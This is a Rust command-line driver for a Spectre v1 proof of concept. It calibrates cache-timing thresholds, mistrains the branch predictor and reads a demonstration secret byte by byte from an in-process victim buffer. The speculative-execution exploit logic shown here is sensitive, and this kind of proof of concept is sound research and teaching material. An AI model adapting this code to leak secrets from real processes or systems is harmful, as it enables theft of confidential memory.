use anyhow::Context;
use clap::Parser;
use log::info;

use cache_timing::calibration::{calibrate_latency, DEFAULT_CALIBRATION_ROUNDS};
use cache_timing::layout::{ProbeArray, DEFAULT_PROBE_STRIDE};
use cache_timing::pin_to_core;
use extraction::{ConvergencePolicy, ExtractionOutcome};
use serde::Serialize;
use spectre_v1::{read_byte, InProcessVictim, SpectreConfig};
use timing_oracle::hardware::HardwareTimer;
use timing_oracle::Threshold;

#[derive(Parser)]
#[command(about = "Recover an in-process secret through a speculative bounds-check bypass")]
struct Args {
    /// Secret string the demonstration victim holds.
    #[arg(long, default_value = "The Magic Words are Squeamish Ossifrage.")]
    secret: String,

    /// Hit threshold in cycles; measured on this machine when omitted.
    #[arg(long)]
    threshold: Option<u64>,

    /// Probe unit spacing in bytes (power of two, at least a cache line).
    #[arg(long, default_value_t = DEFAULT_PROBE_STRIDE)]
    stride: usize,

    /// Trial budget per byte.
    #[arg(long, default_value_t = 999)]
    max_trials: u32,

    /// Convergence margin over twice the runner-up score.
    #[arg(long, default_value_t = 5)]
    margin: u32,

    /// Predictor training passes per trial.
    #[arg(long, default_value_t = 30)]
    training_passes: usize,

    /// Every how many passes the out-of-range index is slipped in.
    #[arg(long, default_value_t = 6)]
    mistrain_period: usize,

    /// Spin iterations between evicting the bound and invoking the victim.
    #[arg(long, default_value_t = 100)]
    window_delay: usize,

    /// Pin the attack to this core.
    #[arg(long)]
    core: Option<usize>,

    /// Emit a JSON report instead of only the text summary.
    #[arg(long)]
    json: bool,
}

#[derive(Serialize)]
struct Report {
    config: SpectreConfig,
    outcomes: Vec<ExtractionOutcome>,
}

fn printable(byte: u8) -> char {
    if byte > 31 && byte < 127 {
        byte as char
    } else {
        '?'
    }
}

fn main() -> anyhow::Result<()> {
    env_logger::init();
    let args = Args::parse();

    if let Some(core) = args.core {
        pin_to_core(core).with_context(|| format!("pinning to core {core}"))?;
    }

    let threshold = match args.threshold {
        Some(cycles) => Threshold::new(cycles),
        None => {
            let calibration = calibrate_latency(DEFAULT_CALIBRATION_ROUNDS)?;
            info!(
                "calibrated: hit median {} / miss median {} -> threshold {}",
                calibration.hit_median, calibration.miss_median, calibration.suggested_threshold
            );
            Threshold::new(calibration.suggested_threshold)
        }
    };
    let config = SpectreConfig {
        threshold,
        policy: ConvergencePolicy {
            margin: args.margin,
            max_trials: args.max_trials,
        },
        training_passes: args.training_passes,
        mistrain_period: args.mistrain_period,
        window_delay: args.window_delay,
    };

    let probe = ProbeArray::new(args.stride).context("building the probe array")?;
    let mut victim = InProcessVictim::new(&probe, args.secret.as_bytes());
    let mut timer = HardwareTimer::new();

    println!("Reading {} bytes:", victim.secret_len());
    let start = victim.secret_offset();
    let mut outcomes = Vec::with_capacity(victim.secret_len());
    for i in 0..victim.secret_len() {
        let target = start + i;
        let outcome = read_byte(&mut timer, &mut victim, &probe, &config, target);
        println!(
            "Reading at table index {:#x}... {}: {:#04x}={} score={} (runner-up {:#04x} score={}, {} trials)",
            target,
            if outcome.is_clear() { "Success" } else { "Unclear" },
            outcome.best.value,
            printable(outcome.best.value),
            outcome.best.score,
            outcome.runner_up.value,
            outcome.runner_up.score,
            outcome.trials,
        );
        outcomes.push(outcome);
    }

    let recovered: String = outcomes.iter().map(|o| printable(o.best.value)).collect();
    println!("Recovered: {recovered}");

    if args.json {
        let report = Report { config, outcomes };
        println!("{}", serde_json::to_string_pretty(&report)?);
    }
    Ok(())
}
